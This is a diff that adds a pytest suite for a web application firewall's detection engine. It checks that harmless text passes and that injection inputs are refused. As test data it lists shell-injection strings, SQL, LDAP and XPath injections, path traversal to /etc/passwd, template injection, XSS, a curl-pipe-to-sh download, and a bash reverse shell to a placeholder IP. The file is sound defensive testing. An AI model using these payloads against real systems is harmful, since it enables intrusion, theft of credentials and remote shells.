@@ -1,0 +1,123 @@
+"""One argument to a shell, one string to a database, one line of prose: what does nothing there, and what dressed up as it does."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+
+from bascule.waf.logic.body_values import request_values
+from bascule.waf.logic.engine import Logic
+from bascule.waf.logic.facts.arguments import as_argument
+from bascule.waf.logic.facts.told import told
+from bascule.waf.logic.values import Value
+
+_QUOTING = "Please run `sudo rm -rf /var/cache/apt/*; df -h` and tell me what it prints"
+
+
+@pytest.fixture(scope="module")
+def standard() -> Logic:
+    return Logic.load("standard")
+
+
+def _refused(logic: Logic, place: str, name: str, text: str) -> bool:
+    return bool(logic.judge([Value(place, name.encode(), text.encode())]))
+
+
+@pytest.mark.parametrize(
+    ("place", "name", "text"),
+    [
+        ("query", "q", "rm -rf node_modules"),
+        ("query", "search", "cat food & litter"),
+        ("query", "q", "curl hair; straight"),
+        ("body", "subject", "ping 8.8.8.8 works but curl https://example.com doesn't"),
+        ("body", "title", "powershell -noprofile"),
+        ("body", "password", "sleep(9)Nap"),
+        ("body", "user[password]", "1 or 1=1"),
+        ("body", "json.password", "../../"),
+        ("header:referer", "q", "select * from table where 1=1"),
+        ("body", "json.exception.values.array_0.stacktrace.frames.array_3.filename", "/app/wp-config.php"),
+        ("query", "q", "what does ../../ do in a path"),
+        ("query", "q", "error: permission denied /var/run/docker.sock"),
+        ("query", "q", "(&(objectClass=user)(sAMAccountName=pat)) is my LDAP filter"),
+        ("body", "message", _QUOTING),
+        ("body", "text", "Запусти команду `sudo rm -rf /var/cache/apt/*; df -h` и посмотри место"),
+        ("body", "message", "What's the difference between [ -f file ] && echo yes; and test -f file?"),
+        ("body", "comment", "XPath: //div[@class='price']/text() gives me nothing, but //*[@id=\"p\"] works"),
+    ],
+)
+def test_it_does_nothing(standard: Logic, place: str, name: str, text: str) -> None:
+    assert not _refused(standard, place, name, text)
+
+
+@pytest.mark.parametrize(
+    ("place", "name", "text"),
+    [
+        ("query", "q", "food; rm -rf /srv/www"),
+        ("query", "q", "cat notes | sh -c id"),
+        ("query", "q", "cat notes & /usr/bin/id"),
+        ("query", "cmd", "rm -rf node_modules"),
+        ("query", "q", "powershell -enc aQBkAGEAYQBhAGEAYQBhAGEA"),
+        ("body", "subject", "x`id`"),
+        ("body", "subject", "x $(whoami) y"),
+        ("body", "title", "--checkpoint-action=exec=sh x.sh"),
+        ("body", "title", "my file --to-command=sh"),
+        ("body", "subject", "hello\ncat /etc/passwd"),
+        ("body", "host", "ping -c 3 192.0.2.1"),
+        ("body", "password", "' or 1=1 -- "),
+        ("body", "password", "\\' or sleep(5)#"),
+        ("body", "password", "%27 or 1=1 -- "),
+        ("body", "password", "*)(uid=*))(|(uid=*"),
+        ("body", "password", "x; cat /etc/passwd"),
+        ("body", "pass_id", "1 or 1=1"),
+        ("header:referer", "q", "x' union select user, password from users -- "),
+        ("body", "json.filename", "/app/wp-config.php"),
+        ("query", "q", "../ ../../etc/passwd"),
+        ("query", "q", "what does ../../etc/passwd"),
+        ("query", "q", "what does ../../\0 do in a path"),
+        ("query", "q", "error: permission denied; cat /var/run/docker.sock"),
+        ("query", "q", "*)(uid=*))(|(uid=* is my filter"),
+        ("body", "host", _QUOTING),
+        ("query", "q", _QUOTING),
+        ("body", "message", _QUOTING.replace("/var/cache/apt/*", "/etc/passwd")),
+        ("body", "message", "Please look at this: `curl http://192.0.2.1/a | sh` and tell me more"),
+        ("body", "message", "Please look at this nice page: x;bash -i >& /dev/tcp/192.0.2.1/44 0>&1"),
+        ("body", "message", "Please look at this nice page, dear friends: x' or 1=1 -- "),
+        ("body", "message", "Please look at this nice page, dear friends' union select a, b from users -- "),
+        ("body", "message", "Please look at this nice page, dear friends {{7*7}} {{config}}"),
+        ("query", "q", "see my file /etc/passwd"),
+        ("query", "q", "cat my file /var/run/docker.sock"),
+        ("body", "message", "Please look at this nice page <img src=x onerror=alert(1)>"),
+        ("body", "message", "; ls -la /var/log; uname -a; echo please look at this nice page"),
+        ("body", "message", "Please look at this nice page;c''at /var/log/syslog"),
+        ("body", "message", "Please look at this nice page;cat${IFS}/var/log/syslog"),
+        ("body", "comment", "' or count(//user)=1 or 'a'='a"),
+    ],
+)
+def test_what_is_dressed_up_as_it_is_refused(standard: Logic, place: str, name: str, text: str) -> None:
+    assert _refused(standard, place, name, text)
+
+
+def test_a_password_is_one_over_the_wire_too(standard: Logic) -> None:
+    def judged(body: bytes) -> bool:
+        form = [(b"content-type", b"application/x-www-form-urlencoded")]
+        return bool(standard.judge(request_values(b"/login", form, body)))
+
+    assert not judged(b"user=a&password=sleep(9)Nap")
+    assert judged(b"user=sleep(9)Nap&password=a")
+    assert judged(b"user=a&password=%25%32%37+or+1%3D1+--+")
+
+
+@pytest.mark.parametrize("unit", ["a", "ab ", "`", "`a", "../", ".. ", "it's ", "a: ", " -", "password", "(", "ж"])
+def test_time_is_linear(standard: Logic, unit: str) -> None:
+    facts = frozenset(("shell.runs_command", "sql.tautology", "path.climbs", "ldap.filter"))
+
+    def took(size: int) -> float:
+        text = b"See this: " + (unit * (size // len(unit))).encode()
+        began = time.process_time()
+        told(facts, b"content", text)
+        as_argument(facts, "body", b"text", text)
+        as_argument(facts, "body", text, text)
+        return time.process_time() - began
+
+    assert took(64_000) < 40 * took(6_400) + 0.05
